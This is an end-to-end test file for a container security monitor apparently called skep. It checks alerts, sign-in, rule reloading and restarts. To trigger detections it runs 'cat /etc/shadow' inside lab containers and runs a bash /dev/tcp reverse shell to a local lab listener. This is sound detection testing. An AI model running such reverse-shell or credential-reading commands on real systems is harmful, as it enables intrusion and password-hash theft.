// SPDX-License-Identifier: Apache-2.0
// The whole way: a real engine, a real kernel, a real browser. The tests build on one another, in order.
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { Lab, Skep, byTestId, chromiumPath, firstSignIn, freePort, openBrowser, skepPath, until } from './lib.mjs';

const password = 'a long enough password';
const shadowRule = 'Password hashes read in a container';
const shadowRuleZh = '容器内读取密码哈希文件';
const lab = new Lab('e2e');
const rules = mkdtempSync(path.join(tmpdir(), 'skep-rules-'));
const ruleFile = path.join(rules, 'own.yaml');
const ownRule = `- rule: Lab marker read
  desc: The end-to-end test's own rule.
  condition: evt.type in (open, openat) and fd.name = /etc/os-release and container.id != host
  output: marker read by %proc.name in %container.name
  priority: NOTICE
  tags: [container]
`;

const skip =
  (!existsSync(skepPath) && `${skepPath} is not built`) ||
  lab.missing() ||
  (!chromiumPath() && 'chromium is not installed') ||
  false;
let skep;
let browser;
let page;
let noEvents; // why the kernel tells nothing on this machine

/** A test that needs the kernel's events is skipped where there are none. */
const eventTest = (name, fn) =>
  test(name, { skip }, (t) => (noEvents ? t.skip(noEvents) : fn(t)));

before(async () => {
  if (skip) return;
  writeFileSync(ruleFile, ownRule);
  lab.up();
  skep = new Skep(lab.socket, await freePort(), ['--rules', rules]);
  await skep.start();
  browser = await openBrowser();
  const context = await browser.newContext({ ignoreHTTPSErrors: true, locale: 'en-US' });
  page = await context.newPage();
});

after(async () => {
  await browser?.close();
  if (skep && !skep.exit) await skep.stop('SIGKILL');
  skep?.remove();
  if (!skip) lab.down();
  rmSync(rules, { recursive: true, force: true });
});

/** Waits for the newest alert of that rule and container, at most 2 s after the event. */
async function alertWithin2s(rule, container) {
  let last;
  const alert = await until(`alert "${rule}" of ${container}`, 10000, async () => {
    [last] = await skep.alerts(`rule = "${rule}" and container.name = ${container}`);
    return last;
  });
  const late = Date.now() - Date.parse(alert.time);
  assert.ok(late < 2000, `the API showed it ${late} ms after the event`);
  return alert;
}

const row = (id, text) => byTestId(page, id).filter({ hasText: text }).first();

test('says where the console is, and how to sign in once', { skip }, async () => {
  assert.match(skep.out, new RegExp(`^console  ${skep.url}/$`, 'm'));
  assert.match(skep.firstLink, new RegExp(`^${skep.url}/first#\\S{43}$`));
  assert.equal((await skep.request('GET', '/healthz')).status, 200);
  assert.equal((await skep.request('GET', '/api/v1/alerts')).status, 401);
});

test('the first sign-in sets the password, and its link works once', { skip }, async () => {
  await firstSignIn(page, skep, password);
  const again = await skep.request('POST', '/api/v1/session/first',
    { token: skep.firstLink.split('#')[1], password: 'another long password' });
  assert.equal(Math.floor(again.status / 100), 4);
  await skep.signIn('admin', password);
  const [host] = (await skep.get('/hosts')).items;
  assert.ok(host, 'this host is listed');
  if (!host.bpf) noEvents = `no kernel events: ${host.bpf_why_not}`;
});

test('signs in by password, and refuses a wrong one', { skip }, async () => {
  const other = await (await browser.newContext({ ignoreHTTPSErrors: true, locale: 'en-US' })).newPage();
  await other.goto(skep.url);
  await byTestId(other, 'login-user').fill('admin');
  await byTestId(other, 'login-password').fill('wrong password');
  await byTestId(other, 'login-submit').click();
  await other.getByText('User name or password is wrong.').waitFor({ timeout: 5000 });
  await byTestId(other, 'login-password').fill(password);
  await byTestId(other, 'login-submit').click();
  await byTestId(other, 'nav-overview').waitFor({ timeout: 5000 });
  await other.context().close();
});

test('lists a running container in the API, on the command line and in the browser', { skip }, async () => {
  await byTestId(page, 'nav-containers').click();
  assert.equal((await lab.docker('run', '-d', '--name', 'e2e-web', '--stop-signal', 'KILL', 'lab/base:1',
    'sh', '-c', 'sleep 1000; true')).code, 0);
  const c = await until('e2e-web runs', 5000, async () =>
    (await skep.get('/containers?filter=name%20%3D%20e2e-web%20and%20state%20%3D%20running')).items.find((x) => x.pid));
  assert.equal(c.image, 'lab/base:1');
  assert.equal(c.command, "sh -c 'sleep 1000; true'");
  const ps = skep.cli('ps', '--json');
  assert.equal(ps.code, 0, ps.err);
  const listed = JSON.parse(ps.out).items.find((x) => x.name === 'e2e-web'); // other engines may run others
  assert.deepEqual([listed.image, listed.state, listed.pid], ['lab/base:1', 'running', c.pid]);
  assert.match(skep.cli('ps').out, /^e2e-web +lab\/base:1 +running/m);
  await row('container-row', 'e2e-web').waitFor({ timeout: 5000 });
});

eventTest('shows the processes of a container as a tree', async () => {
  await row('container-row', 'e2e-web').click();
  const tree = byTestId(page, 'process-tree');
  await tree.getByText('sleep', { exact: true }).first().waitFor({ timeout: 5000 });
  assert.match(await tree.innerText(), /sh[\s\S]*sleep/);
});

eventTest('reading the password hashes is an alert within 2 seconds, in the API and in the browser', async () => {
  await byTestId(page, 'nav-alerts').click();
  await page.waitForURL('**/alerts');
  const done = lab.docker('run', '--rm', '--name', 'e2e-shadow', 'lab/base:1', 'sh', '-c', 'cat /etc/shadow');
  const alert = await alertWithin2s(shadowRule, 'e2e-shadow');
  await row('alert-row', 'e2e-shadow').waitFor({ timeout: 5000 });
  const late = Date.now() - Date.parse(alert.time);
  assert.ok(late < 2000, `the browser showed it ${late} ms after the event`);
  assert.equal((await done).code, 0);
  assert.equal(alert.container.image, 'lab/base:1');
  assert.equal(alert.proc.name, 'cat');
  assert.equal(alert.proc.cmdline, 'cat /etc/shadow');
  assert.equal(alert.fd.name, '/etc/shadow');
  assert.equal(alert.proc.user, 'root');
  assert.deepEqual(alert.techniques, ['T1003.008']);
  assert.match(alert.output, /file=\/etc\/shadow process=cat .*container=e2e-shadow image=lab\/base:1/);
});

eventTest('an alert carries its ancestry, through every shell up to the container', async () => {
  await lab.docker('run', '--rm', '--name', 'e2e-deep', 'lab/base:1', 'sh', '-c',
    "sh -c 'sh -c \"cat /etc/shadow; true\"; true'; true");
  const alert = await alertWithin2s(shadowRule, 'e2e-deep');
  const inside = alert.ancestors.filter((p) => p.container_id === alert.container.id);
  assert.deepEqual(inside.map((p) => p.name).slice(0, 3), ['sh', 'sh', 'sh']);
  assert.equal(inside[0].pid, alert.proc.ppid);
  assert.equal(inside[2].vpid, 1);
});

eventTest('the alert reads well in English and in Chinese', async () => {
  const open = () => row('alert-row', 'e2e-shadow').click({ position: { x: 4, y: 8 } }); // not on a link in it
  await open();
  const detail = byTestId(page, 'alert-detail');
  await detail.getByRole('heading', { name: shadowRule }).waitFor({ timeout: 5000 });
  assert.match(await byTestId(page, 'alert-ancestry').innerText(), /cat \/etc\/shadow/);
  await page.keyboard.press('Escape');
  await byTestId(page, 'lang-switch').click();
  await open();
  await detail.getByRole('heading', { name: shadowRuleZh }).waitFor({ timeout: 5000 });
  await page.keyboard.press('Escape');
  assert.equal((await byTestId(page, 'nav-alerts').innerText()).split('\n')[0], '告警');
  await byTestId(page, 'lang-switch').click();
  await byTestId(page, 'nav-alerts').getByText('Alerts').waitFor({ timeout: 5000 });
});

eventTest('a reverse shell to a listener is an alert with its connection', async () => {
  const heard = path.join(lab.dir, 'e2e-revshell.out');
  lab.run('listen', '4444', heard);
  const done = lab.docker('run', '--rm', '--name', 'e2e-revshell', 'lab/tools:1', 'bash', '-c',
    `exec 3<>/dev/tcp/${lab.gateway}/4444; timeout 2 sh <&3 >&3 2>&3`);
  const alert = await alertWithin2s('Standard stream tied to the network', 'e2e-revshell');
  await row('alert-row', 'e2e-revshell').waitFor({ timeout: 2000 });
  assert.equal(alert.priority, 'critical');
  assert.equal(alert.container.image, 'lab/tools:1');
  assert.equal(alert.fd.rip, lab.gateway);
  assert.equal(alert.fd.rport, 4444);
  await done;
  lab.run('unlisten', '4444');
});

eventTest('skep alerts --json tells the same as the API', () => {
  const r = skep.cli('alerts', '--json');
  assert.equal(r.code, 0, r.err);
  const { items } = JSON.parse(r.out);
  assert.ok(items.some((a) => a.rule === shadowRule && a.container.name === 'e2e-shadow'));
});

eventTest('a container that lives a moment is listed with its command and exit', async () => {
  await lab.docker('run', '--rm', '--name', 'e2e-brief', 'lab/base:1', 'sh', '-c', 'sleep 0.05; exit 7');
  const c = await until('e2e-brief is listed as gone', 5000, async () =>
    (await skep.get('/containers?filter=name%20%3D%20e2e-brief')).items.find((x) => x.finished && x.exit_code === 7));
  assert.equal(c.command, "sh -c 'sleep 0.05; exit 7'");
});

eventTest('a rule file with an error keeps the old rules, and the console names the place', async () => {
  writeFileSync(ruleFile, ownRule.replace('fd.name = /etc', 'fd.nam = /etc'));
  const { error } = await until('the error is told', 5000, async () => {
    const r = await skep.get('/rules');
    return r.error && r;
  });
  assert.match(error, /own\.yaml:3:\d+/);
  await byTestId(page, 'nav-rules').click();
  await byTestId(page, 'rules-error').getByText(/own\.yaml:3:\d+/).waitFor({ timeout: 5000 });
  await lab.docker('run', '--rm', '--name', 'e2e-oldrules', 'lab/base:1', 'sh', '-c', 'cat /etc/os-release');
  await alertWithin2s('Lab marker read', 'e2e-oldrules');
  writeFileSync(ruleFile, ownRule.replace('Lab marker read', 'Lab marker read anew'));
  await until('the error is gone', 5000, async () => !(await skep.get('/rules')).error);
  await lab.docker('run', '--rm', '--name', 'e2e-newrules', 'lab/base:1', 'sh', '-c', 'cat /etc/os-release');
  await alertWithin2s('Lab marker read anew', 'e2e-newrules');
});

eventTest('kill -9 and a second start lose no alert', async () => {
  const ids = (await skep.alerts('state = open')).map((a) => a.id).sort();
  assert.ok(ids.length >= 4);
  await skep.stop('SIGKILL');
  await skep.start();
  assert.equal(skep.firstLink, undefined, 'the password is set already');
  const kept = (await skep.alerts('state = open')).map((a) => a.id);
  assert.deepEqual(ids.filter((id) => !kept.includes(id)), []);
  await lab.docker('run', '--rm', '--name', 'e2e-again', 'lab/base:1', 'sh', '-c', 'cat /etc/shadow');
  await alertWithin2s(shadowRule, 'e2e-again');
  await byTestId(page, 'nav-alerts').click();
  await row('alert-row', 'e2e-again').waitFor({ timeout: 15000 }); // without a reload
});

test('an engine that restarts is told, found again, and its containers are right', { skip }, async () => {
  lab.run('stop');
  await until('the agent tells that the engine is away', 5000, async () =>
    (await skep.get('/agents')).items[0]?.runtime_error);
  lab.run('start');
  await until('the agent has the engine again', 8000, async () =>
    !(await skep.get('/agents')).items[0]?.runtime_error);
  await until('e2e-web is known to have ended', 5000, async () =>
    (await skep.get('/containers?filter=name%20%3D%20e2e-web')).items[0]?.state === 'exited');
  if (noEvents) return;
  await lab.docker('run', '--rm', '--name', 'e2e-restarted', 'lab/base:1', 'sh', '-c', 'cat /etc/shadow');
  await alertWithin2s(shadowRule, 'e2e-restarted');
});

test('a second skep on the same data is refused with the reason', { skip }, async () => {
  const r = skep.cli('up', '--listen', '127.0.0.1:1');
  assert.notEqual(r.code, 0);
  assert.match(r.err, /skep/);
  assert.ok(!skep.exit, 'the first one runs on');
});

test('Ctrl-C ends it cleanly', { skip }, async () => {
  const began = Date.now();
  const { code } = await skep.stop('SIGINT');
  assert.equal(code, 0, skep.err.split('\n').slice(-20).join('\n'));
  assert.ok(Date.now() - began < 5000);
  assert.doesNotMatch(skep.err, /ERROR|AddressSanitizer|runtime error/);
});
